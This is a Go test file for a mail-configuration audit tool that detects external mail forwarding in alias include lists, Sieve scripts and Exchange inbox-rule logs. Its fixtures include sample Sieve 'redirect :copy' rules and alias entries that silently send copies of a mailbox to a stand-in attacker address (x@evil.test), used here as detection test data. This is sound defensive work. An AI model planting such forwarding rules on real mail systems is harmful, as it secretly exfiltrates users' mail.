package audit

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// treeOf writes files and links (the text "-> name") into a folder.
func treeOf(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for name, text := range files {
		path := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		var err error
		if to, link := strings.CutPrefix(text, "-> "); link {
			err = os.Symlink(to, path)
		} else {
			err = os.WriteFile(path, []byte(text), 0o600)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// wantFound holds a tree's findings, one "severity rule mailbox -> target" a
// line, against what is wanted.
func wantFound(t *testing.T, dir string, want ...string) *Report {
	t.Helper()
	r := run(t, dir)
	var got []string
	for _, f := range r.Findings {
		got = append(got, strings.Join([]string{f.Severity.String(), f.Rule, f.Mailbox, "->", f.Target}, " "))
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("found:\n%s\nwant:\n%s\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"), lines(r))
	}
	return r
}

const (
	keepsCopy = "require [\"copy\",\"include\"];\nredirect :copy \"x@evil.test\";\n"
	harmless  = "require \"fileinto\";\nif header :is \"List-Id\" \"staff\" { fileinto \"staff\"; }\n"
)

func TestAliasIncludes(t *testing.T) {
	const aliases = "root: hanako\nstaff: :include:/etc/mail/lists/staff\n"
	list := "a@corp.example\nx@evil.test\n"
	t.Run("absolute, by the end of its path", func(t *testing.T) {
		wantFound(t, treeOf(t, map[string]string{"aliases": aliases, "lists/staff": list}),
			"warning external-forward staff -> x@evil.test", "info pipe-or-include staff -> /etc/mail/lists/staff")
	})
	t.Run("relative and quoted", func(t *testing.T) {
		wantFound(t, treeOf(t, map[string]string{"etc/aliases": "staff: \":include:lists/staff\"\n", "etc/lists/staff": list}),
			"warning external-forward staff -> x@evil.test", "info pipe-or-include staff -> lists/staff")
	})
	t.Run("missing", func(t *testing.T) {
		wantFound(t, treeOf(t, map[string]string{"aliases": aliases}), "warning pipe-or-include staff -> /etc/mail/lists/staff")
	})
	t.Run("another file of that name", func(t *testing.T) {
		wantFound(t, treeOf(t, map[string]string{"aliases": "a: :include:/etc/lists/one/members\nb: :include:/etc/lists/two/members\n", "one/members": list, "two/members": "b@corp.example\n"}),
			"warning external-forward a -> x@evil.test", "info pipe-or-include a -> /etc/lists/one/members", "info pipe-or-include b -> /etc/lists/two/members")
	})
	t.Run("twice: both send", func(t *testing.T) {
		wantFound(t, treeOf(t, map[string]string{"aliases": "a: :include:/l/staff\nb: :include:/l/staff\n", "l/staff": list}),
			"high shared-forward-target a -> x@evil.test", "warning external-forward a -> x@evil.test", "warning external-forward b -> x@evil.test",
			"info pipe-or-include a -> /l/staff", "info pipe-or-include b -> /l/staff")
	})
	t.Run("nested, and in a circle", func(t *testing.T) {
		r := run(t, treeOf(t, map[string]string{"aliases": "a: :include:/l/one\n", "l/one": "hanako@corp.example\n:include:/l/two\n", "l/two": ":include:/l/one\ny@evil.test\n"}))
		if got := lines(r); !strings.Contains(got, "external-forward a -> y@evil.test") {
			t.Errorf("%s", got)
		}
	})
	t.Run("itself", func(t *testing.T) {
		r := run(t, treeOf(t, map[string]string{"aliases": "a: :include:/x/aliases, hanako\n"}))
		if got := strings.Join(rulesOf(r), " "); got != pipeInclude {
			t.Errorf("%s", lines(r))
		}
	})
	t.Run("unreadable", func(t *testing.T) {
		dir := treeOf(t, map[string]string{"aliases": aliases, "lists/staff": "-> staff"}) // a link to itself, which root cannot read either
		if r := wantFound(t, dir, "warning pipe-or-include staff -> /etc/mail/lists/staff"); len(r.Errors) != 1 {
			t.Errorf("%v", r.Errors)
		}
	})
}

func TestSieveIncludes(t *testing.T) {
	box := "var/vmail/corp.example/hanako/"
	t.Run("an included script runs, though another is the active one", func(t *testing.T) {
		wantFound(t, treeOf(t, map[string]string{
			box + ".dovecot.sieve":   "-> sieve/main.sieve",
			box + "sieve/main.sieve": "require \"include\";\ninclude :personal \"two\";\n", box + "sieve/two.sieve": "require \"include\";\ninclude \"three\";\n",
			box + "sieve/three.sieve": keepsCopy, box + "sieve/old.sieve": "redirect \"old@evil.test\";\n",
		}), "warning forward-everything hanako@corp.example -> x@evil.test", "warning external-forward hanako@corp.example -> x@evil.test",
			"info forward-without-copy hanako@corp.example -> old@evil.test", "info forward-everything hanako@corp.example -> old@evil.test", "info external-forward hanako@corp.example -> old@evil.test")
	})
	t.Run("a circle", func(t *testing.T) {
		wantFound(t, treeOf(t, map[string]string{
			box + ".dovecot.sieve": "-> sieve/a.sieve", box + "sieve/a.sieve": "require \"include\";\ninclude \"b\";\n",
			box + "sieve/b.sieve": "require [\"include\",\"copy\"];\ninclude \"a\";\nredirect :copy \"x@evil.test\";\n",
		}), "warning forward-everything hanako@corp.example -> x@evil.test", "warning external-forward hanako@corp.example -> x@evil.test")
	})
	t.Run("a script that is not there, and a global one", func(t *testing.T) {
		wantFound(t, treeOf(t, map[string]string{
			box + "sieve/main.sieve": "require \"include\";\ninclude :personal \"gone\";\ninclude :global \"spam\";\n",
		}), "warning pipe-or-include hanako@corp.example -> gone", "info pipe-or-include hanako@corp.example -> spam")
	})
	t.Run("the active script lies elsewhere", func(t *testing.T) {
		wantFound(t, treeOf(t, map[string]string{
			box + ".dovecot.sieve": "-> ../../../scripts/h", "var/scripts/h": keepsCopy, box + "sieve/old.sieve": harmless,
		}), "warning forward-everything hanako@corp.example -> x@evil.test", "warning external-forward hanako@corp.example -> x@evil.test")
	})
	t.Run("Cyrus links to what it compiled", func(t *testing.T) {
		cyrus := "var/imap/sieve/h/hanako/"
		wantFound(t, treeOf(t, map[string]string{
			cyrus + "defaultbc": "-> roundcube.bc", cyrus + "roundcube.bc": "CyrSBytecode\x00\x00", cyrus + "roundcube.script": keepsCopy, cyrus + "old.script": "redirect \"old@evil.test\";\n",
		}), "warning forward-everything hanako -> x@evil.test", "warning external-forward hanako -> x@evil.test",
			"info forward-without-copy old -> old@evil.test", "info forward-everything old -> old@evil.test", "info external-forward old -> old@evil.test")
	})
	t.Run("the active script is missing", func(t *testing.T) {
		r := run(t, treeOf(t, map[string]string{box + ".dovecot.sieve": "-> /var/vmail/elsewhere/main.sieve", box + "sieve/old.sieve": harmless}))
		if len(r.Errors) != 1 || !strings.Contains(r.Errors[0].Text, "the active script main.sieve is not here") {
			t.Errorf("%s", lines(r))
		}
	})
}

// TestLinks: a folder that is a link, links to folders and files, loops.
func TestLinks(t *testing.T) {
	export := header + "a@corp.example,,smtp:x@evil.test,True\n"
	outside := treeOf(t, map[string]string{"m.csv": export, "deep/n.csv": strings.ReplaceAll(export, "a@", "b@")})
	want := []string{"high shared-forward-target b@corp.example -> x@evil.test", "warning external-forward a@corp.example -> x@evil.test", "warning external-forward b@corp.example -> x@evil.test"}
	dir := treeOf(t, map[string]string{"exports": "-> " + outside, "loop/self": "-> ../loop", "loop/up": "-> .."})
	r := run(t, filepath.Join(dir, "exports"))
	if r.Files != 2 || len(r.Errors) > 0 {
		t.Errorf("a folder that is a link: %s", lines(r))
	}
	if r := wantFoundSorted(t, dir, want); r.Files != 2 || len(r.Errors) > 0 {
		t.Errorf("a link to a folder, and loops: %s", lines(r))
	}
	dir = treeOf(t, map[string]string{"m.csv": export, "gone.csv": "-> nowhere"})
	if r := run(t, dir); len(r.Errors) != 1 || r.exit(0) != ExitUnread {
		t.Errorf("a link to nothing: %s", lines(r))
	}
}

func wantFoundSorted(t *testing.T, dir string, want []string) *Report {
	t.Helper()
	r := run(t, dir)
	got := lines(r)
	for _, w := range want {
		if !strings.Contains(got, w) {
			t.Errorf("%q is missing in\n%s", w, got)
		}
	}
	return r
}

// TestUnknownRule: a record that does not say what a rule does is not passed
// over.
func TestUnknownRule(t *testing.T) {
	r := runText(t, "log.json", `[{"Operation":"New-InboxRule","UserId":"h@corp.example","Workload":"Exchange","Parameters":null}]`)
	if got := strings.Join(rulesOf(r), " "); got != ruleChanged {
		t.Errorf("%s", lines(r))
	}
}
